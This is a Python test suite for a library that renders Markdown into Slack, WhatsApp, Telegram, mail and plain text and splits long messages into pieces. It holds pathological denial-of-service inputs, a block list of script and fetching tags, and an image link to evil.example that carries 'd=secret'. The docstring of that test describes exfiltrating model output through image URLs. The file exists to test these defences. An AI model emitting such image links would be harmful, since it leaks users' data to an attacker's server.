"""What holds for any Markdown at all: it is rendered, it is well-formed, no word is lost, nothing is fetched."""

import re
from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given as over
from hypothesis import strategies as st

from throughline.markup.mail import mail
from throughline.markup.pieces import pieces
from throughline.markup.plain import plain
from throughline.markup.slack import mrkdwn
from throughline.markup.telegram import telegram, units
from throughline.markup.tree import Markdown
from throughline.markup.whatsapp import whatsapp

from .pages import FORMATS

#: Hostile and drawn pages are long, and tracing them doubles their time; the golden files cover the same lines.
pytestmark = pytest.mark.untraced


Render = Callable[[Markdown], str]

BITS = st.sampled_from(
    ["word ", "Sentence. ", "x" * 40, "\n", "\n\n", "- item\n", "  - deep\n", "1. first\n", "> said\n", "# Head\n",
     "```py\n", "```\n", "| a | b |\n", "|---|---|\n", "| c | d |\n", "**", "*", "_", "~~", "`", "[x](https://e.example)",
     "![i](https://t.example/s)", "[", "](", ")", "<b>", "&amp;", "&", "<", '"', "日本。", "👨‍👩‍👧 ", "é", "שלום ",
     "    "]
)  # fmt: skip
PAGE = st.lists(BITS, max_size=50).map("".join)
ANY = PAGE | st.text(max_size=200)
#: Pieces of these are small enough to be many.
PIECED: list[tuple[str, Render, Callable[[str], int]]] = [
    ("slack", mrkdwn, len), ("whatsapp", whatsapp, len), ("telegram", telegram, units), ("plain", plain, len),
]  # fmt: skip
HOSTILE = [
    "**" * 3_000, "*a " * 3_000 + "a* " * 3_000, "[" * 6_000, "> " * 3_000, "- " * 3_000, "`" * 6_000, "|a" * 3_000,
    "<" * 12_000, "![" * 3_000, "[a](" * 3_000, "~~a" * 3_000, "a\n" * 6_000,
]  # fmt: skip


class Tags(HTMLParser):
    """What is in some HTML: its tags with attributes, its words, and whether every tag is closed in order."""

    EMPTY = frozenset({"br", "hr"})

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.open: list[str] = []
        self.sound = True
        self.feed(html)
        self.close()
        self.sound = self.sound and not self.open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in self.EMPTY:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.sound = self.sound and bool(self.open) and self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.sound = False

    def handle_decl(self, decl: str) -> None:
        self.sound = False

    def unknown_decl(self, data: str) -> None:
        self.sound = False


def _words(text: str) -> Counter[str]:
    return Counter(re.findall(r"[^\W_]+", re.sub(r"<[^>]*>", " ", text)))


@over(ANY)
def test_anything_is_rendered_by_every_format(text: str) -> None:
    for render in FORMATS.values():
        assert isinstance(render(text), str)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_markdown_made_to_hurt_is_rendered(text: str) -> None:
    """No recursion without end, no time without end: the test's own time limit holds it."""
    for render in FORMATS.values():
        assert isinstance(render(text), str)
    assert all(units(piece) <= 4_096 for piece in pieces(text, 4_096, telegram, units))


@over(ANY)
def test_telegram_gets_its_own_tags_and_no_other(text: str) -> None:
    html = Tags(telegram(text))

    assert html.sound
    for tag, attributes in html.tags:
        assert tag in {"b", "i", "s", "code", "pre", "a", "blockquote"}
        assert set(attributes) <= {"a": {"href"}, "code": {"class"}}.get(tag, set())
        assert tag != "a" or re.match(r"https?://|mailto:|tg://resolve\?", attributes["href"] or "", re.IGNORECASE)


@over(ANY)
def test_a_mail_holds_nothing_that_runs_or_is_fetched(text: str) -> None:
    html = Tags(mail(text))

    assert html.sound
    for tag, attributes in html.tags:
        assert tag not in {"script", "img", "style", "link", "iframe", "object", "form", "svg", "base", "meta"}
        assert set(attributes) <= {"style", "dir", "href", "start"}
        assert "url(" not in (attributes.get("style") or "")
        assert tag != "a" or re.match(r"https?://|mailto:", attributes["href"] or "", re.IGNORECASE)


@pytest.mark.parametrize("form", FORMATS)
def test_an_image_is_never_an_image(form: str) -> None:
    """Its address may carry what somebody made the model say; whoever shows an image asks for it unasked."""
    written = FORMATS[form]("![see](https://evil.example/p.png?d=secret) ![](https://evil.example/q.png)")

    assert "<img" not in written
    assert "![" not in written


@over(PAGE, st.integers(32, 120), st.sampled_from(PIECED))
def test_every_piece_is_within_the_limit_and_not_blank(
    text: str, most: int, how: tuple[str, Render, Callable[[str], int]]
) -> None:
    _, render, length = how
    found = pieces(text, most, render, length)

    assert all(0 < length(piece) <= most for piece in found)
    assert all(piece.strip() for piece in found)


@over(st.lists(st.sampled_from(["alpha", "beta.", "**gamma**", "`delta`", "_eta_", "\n", "\n\n", "- ", "> "])))
def test_no_word_is_lost_between_two_pieces(bits: list[str]) -> None:
    text = " ".join(bits)
    for _, render, length in PIECED:
        assert _words(" ".join(pieces(text, 60, render, length))) == _words(render(text))


@over(st.integers(0, 400))
def test_words_stay_in_order(count: int) -> None:
    words = [f"w{number}." for number in range(count)]

    assert " ".join(pieces(" ".join(words), 100, plain)).split() == words


def test_code_is_closed_and_opened_again() -> None:
    text = "Before\n\n```py\n" + "line = 1\n" * 40 + "```\n\nafter"
    found = pieces(text, 120, telegram, units)

    assert len(found) > 3
    assert found[0] == "Before"
    assert all(piece.startswith('<pre><code class="language-py">line = 1\n') for piece in found[1:-2])
    assert all(Tags(piece).sound for piece in found)
    assert found[-1].endswith("after")


def test_a_table_has_its_head_in_each_piece() -> None:
    found = pieces("| k | v |\n|---|---|\n" + "| key | value |\n" * 30, 120, plain)

    assert len(found) > 2
    assert all(piece.startswith("k    v\n---  -----\nkey") for piece in found)


def test_a_numbered_list_counts_on() -> None:
    found = pieces("\n".join(f"{n}. number {n} of the list" for n in range(1, 30)), 100, plain)

    assert "\n".join(found) == plain("\n".join(f"{n}. number {n} of the list" for n in range(1, 30)))


def test_marks_are_closed_and_opened_again() -> None:
    found = pieces("**" + "bold words here. " * 20 + "end**", 100, telegram, units)

    assert len(found) > 3
    assert all(piece.startswith("<b>") and piece.endswith("</b>") for piece in found)


def test_a_heading_stays_with_what_it_is_over() -> None:
    found = pieces("word " * 12 + "\n\n# Head\n\n" + "text " * 8, 80, plain)

    assert [piece.startswith("Head") for piece in found] == [False, True]


def test_an_emoji_of_several_is_not_cut() -> None:
    found = pieces("👨‍👩‍👧‍👦" * 40, 64, telegram, units)

    assert all(piece.startswith("👨") and piece.endswith("👦") for piece in found)
